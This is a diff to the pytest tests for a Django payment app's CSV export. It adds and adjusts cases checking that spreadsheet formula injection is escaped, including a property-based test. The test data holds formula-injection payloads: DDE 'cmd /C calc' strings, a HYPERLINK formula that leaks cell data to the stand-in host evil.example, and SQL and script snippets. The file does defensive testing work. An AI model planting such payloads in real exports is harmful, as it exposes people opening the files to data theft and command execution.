@@ -1,6 +1,7 @@
 import asyncio
 import csv
 import io
+import re
 import time
 import tracemalloc
 from collections.abc import Iterator
@@ -17,6 +18,8 @@ from django.utils import timezone as site_time
 from django.utils import translation
 from django.utils.functional import lazystr
 from django.utils.translation import gettext
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from django_paiementpro.admin import export
 from django_paiementpro.admin.export import csv_response, export_payments
@@ -169,16 +172,15 @@ def test_numbers_are_not_quoted() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        *("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)", "=", "\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"),
-        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1+1", " \t +A1", "+1e5", "-x"),
+        *("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)", "=", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"),
+        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1+1", "+1e5", "-x", "-1\x00+cmd"),
         '=HYPERLINK("https://evil.example/?" & A1, "Click")',
-        *("\tx", "\rx", "\nx", "\r\nx"),
     ],
 )
 @pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
 def test_formula_is_guarded(text: str, language: str, delimiter: str) -> None:
     with translation.override(language):
-        assert written(text, delimiter) == f"'{text}"
+        assert written(text, delimiter) == f"'{text}".replace("\x00", "")
 
 
 @pytest.mark.parametrize(
@@ -188,7 +190,13 @@ def test_formula_is_guarded(text: str, language: str, delimiter: str) -> None:
         ("Awa; @SUM(1)", "Awa;' @SUM(1)"),
         ("=1;-1;+A1", "'=1;-1;'+A1"),
         (",,=1", ",,'=1"),
-        ("Awa,\n=1", "Awa,'\n=1"),
+        ("Awa,\n=1", "Awa,\n'=1"),
+        ("\n=1+1", "\n'=1+1"),
+        ("\t=1+1", "\t'=1+1"),
+        ("\r\n +A1", "\r\n' +A1"),
+        ("Awa\t=1+1", "Awa\t'=1+1"),
+        ('Awa,"=1+1"', 'Awa,\'"=1+1"'),
+        ("-5\n@SUM(1)", "-5\n'@SUM(1)"),
     ],
 )
 def test_formula_is_guarded_if_the_spreadsheet_expects_the_other_separator(text: str, cell: str) -> None:
@@ -204,6 +212,7 @@ def test_formula_is_guarded_if_the_spreadsheet_expects_the_other_separator(text:
         *("Commande 42; -5 %", "-12,50", "-12.50", "1, -2, +3", "2026-11-25", "-25/12/2026", "9210824147867", "12e45"),
         *("Awa", "Koné-Traoré", "N’Guessan", "O'Neil", "Order 12", "PP-F324", "awa+shop@example.com", "MAR1", "5%"),
         *("; drop table", "<script>alert(1)</script>", "a;b,c", 'say "no"', "…", "a=b", "1+1=2?", "'=1+1", '"=1+1"'),
+        *("\tx", "\rx", "\nx", "\r\nx", " \t x", "0707123456\n-5 %", "Total\t-12 500"),
         *("٣ oranges", "日本", "👍🏽", "a’b “c”", "a\u00a0b", "one\ntwo", "one\ttwo", "x\r\ny", "\u2028x"),
     ],
 )
@@ -211,6 +220,24 @@ def test_formula_is_guarded_if_the_spreadsheet_expects_the_other_separator(text:
 def test_other_text_is_unchanged(text: str, language: str, delimiter: str) -> None:
     with translation.override(language):
         assert written(text, delimiter) == text
+
+
+#: A cell that a spreadsheet would run. A number, a phone number or a percentage does not run, nor does one that is
+#: followed by our quotation mark, or by a separator that no formula has there.
+RUNS = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*(?![+-][\d\s().:/%-]*(?:\"*\Z|\"*[,;\t\r\n]))[=+@-]")
+
+
+@given(st.text("=+-@,;\t\r\n\"'  aA1|!(%.\u200b", max_size=12), st.sampled_from([("fr", ";"), ("en", ",")]))
+@settings(max_examples=500)
+def test_no_spreadsheet_finds_a_formula(text: str, site: tuple[str, str]) -> None:
+    """Whatever separator it expects, whether it knows quotation marks or not."""
+    language, _delimiter = site
+    with translation.override(language):
+        line = b"".join(csv_response([("Awa", text, "12500")], "f.csv")).decode("utf-8-sig")
+    for delimiter in ",;\t":
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            rows = csv.reader(io.StringIO(line, newline=""), delimiter=delimiter, quoting=quoting)
+            assert [cell for row in rows for cell in row if RUNS.match(cell)] == []
 
 
 def test_lone_surrogate_is_replaced() -> None:
@@ -324,7 +351,7 @@ def test_payers_cannot_write_formulas() -> None:
 
     assert row["Description"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Receipt")'
     assert row["First name"] == "'+A1"
-    assert row["Last name"] == '"; drop\n@SUM(1)'
+    assert row["Last name"] == "\"; drop\n'@SUM(1)"
     assert row["E-mail"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert row["Payment method"] == "<script>"
     assert row["Gateway id"] == "-1"
